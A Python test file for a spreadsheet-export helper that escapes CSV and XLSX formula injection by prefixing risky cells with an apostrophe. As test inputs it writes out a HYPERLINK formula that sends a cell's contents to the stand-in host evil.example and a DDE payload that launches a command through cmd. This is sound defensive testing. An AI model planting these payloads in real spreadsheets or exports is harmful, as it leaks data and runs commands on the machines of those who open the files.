"""core.spreadsheet: the one helper every CSV and XLSX export sends its cells through, so text a
spreadsheet would run as a formula (OWASP "CSV injection") is shown as text instead."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.spreadsheet import csv_lines, neutralise, neutralise_row, write_xlsx

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        -2,
        0,
        2.5,
        -2.5,
        Decimal("-1.25"),
        True,
        None,
        datetime.date(2026, 3, 1),
        datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC),
        datetime.time(9, 30),
        "Alpha intake",
        "",
        "a = b",
        "'=already neutralised",
    ],
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert neutralise(value) is value


def test_a_row_is_neutralised_cell_by_cell():
    assert neutralise_row((EVIL, -3, "Ward 7", None)) == ["'" + EVIL, -3, "Ward 7", None]


def test_csv_lines_neutralise_the_header_and_every_cell():
    text = "".join(csv_lines(["Name", "@header"], [[EVIL, -3], ["Ward 7", 4]]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Name", "'@header"], ["'" + EVIL, "-3"], ["Ward 7", "4"]]


def test_write_xlsx_neutralises_and_keeps_numbers_and_dates_typed():
    output = io.BytesIO()
    day = datetime.date(2026, 3, 1)
    write_xlsx(output, ["Name", "=Heading"], [[EVIL, -3], ["+cmd", day]], title="Sheet")
    output.seek(0)
    sheet = load_workbook(output).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Name", "'=Heading"]
    assert rows[1] == ["'" + EVIL, -3]
    assert rows[2][0] == "'+cmd"
    assert rows[2][1].date() == day
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
